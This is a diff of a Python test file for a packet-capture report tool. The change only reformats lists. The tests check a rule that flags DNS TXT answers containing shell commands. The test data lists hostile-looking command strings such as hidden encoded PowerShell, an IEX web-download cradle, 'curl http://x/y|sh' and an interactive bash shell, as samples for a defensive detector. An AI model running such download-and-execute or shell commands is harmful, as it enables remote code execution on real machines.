@@ -15,10 +15,15 @@ from tshark_report.rules.names.command_answers import command_answers, kind_of
 @pytest.mark.parametrize(
     "text",
     [
-        "powershell -nop -w hidden -enc SQBFAFgA", "cmd /c whoami", "IEX (New-Object Net.WebClient).DownloadString('x')",
-        "/bin/bash -i", "curl http://x/y|sh", "wget -q http://x/y", "certutil -urlcache",
+        "powershell -nop -w hidden -enc SQBFAFgA",
+        "cmd /c whoami",
+        "IEX (New-Object Net.WebClient).DownloadString('x')",
+        "/bin/bash -i",
+        "curl http://x/y|sh",
+        "wget -q http://x/y",
+        "certutil -urlcache",
     ],
-)  # fmt: skip
+)
 def test_commands(text: str) -> None:
     assert kind_of(text) == "a command"
 
@@ -33,11 +38,19 @@ def test_encoded_programs_and_long_texts() -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        "v=spf1 include:_spf.example.com ~all", "v=DKIM1; k=rsa; p=" + "A" * 200, "k=rsa; p=" + "A" * 200, "p=" + "B" * 200,
-        "google-site-verification=" + "c" * 120, "MS=ms12345678", "docusign=05958488-4752-4ef2-95eb-aa7ba8a3bd0e",
-        "apple-domain-verification=" + "d" * 120, "some-vendor-verification=" + "e" * 150, "hello world", "",
+        "v=spf1 include:_spf.example.com ~all",
+        "v=DKIM1; k=rsa; p=" + "A" * 200,
+        "k=rsa; p=" + "A" * 200,
+        "p=" + "B" * 200,
+        "google-site-verification=" + "c" * 120,
+        "MS=ms12345678",
+        "docusign=05958488-4752-4ef2-95eb-aa7ba8a3bd0e",
+        "apple-domain-verification=" + "d" * 120,
+        "some-vendor-verification=" + "e" * 150,
+        "hello world",
+        "",
     ],
-)  # fmt: skip
+)
 def test_ordinary_texts(text: str) -> None:
     assert not kind_of(text)
 
@@ -47,11 +60,14 @@ def test_fires_and_its_filter_is_exact(loaded, tmp_path: Path) -> None:  # noqa:
     path = wire.write(
         tmp_path / "txt.pcap",
         [
-            ask(0, 1, spf, 16), tell(0.1, 1, spf, [wire.txt(spf, "v=spf1 -all")], 16),
-            ask(1, 2, cmd, 16), tell(1.1, 2, cmd, [wire.txt(cmd, "powershell -enc AAAA")], 16),
-            ask(2, 3, cmd, 1), tell(2.1, 3, cmd, [wire.a(cmd, "192.0.2.7")], 1),
+            ask(0, 1, spf, 16),
+            tell(0.1, 1, spf, [wire.txt(spf, "v=spf1 -all")], 16),
+            ask(1, 2, cmd, 16),
+            tell(1.1, 2, cmd, [wire.txt(cmd, "powershell -enc AAAA")], 16),
+            ask(2, 3, cmd, 1),
+            tell(2.1, 3, cmd, [wire.a(cmd, "192.0.2.7")], 1),
         ],
-    )  # fmt: skip
+    )
     found = drafts(command_answers, loaded(path).tables)
     assert [(d.priority, d.hosts[0]) for d in found] == [("high", wire.CLIENT)]
     assert "c.example.net" in found[0].summary
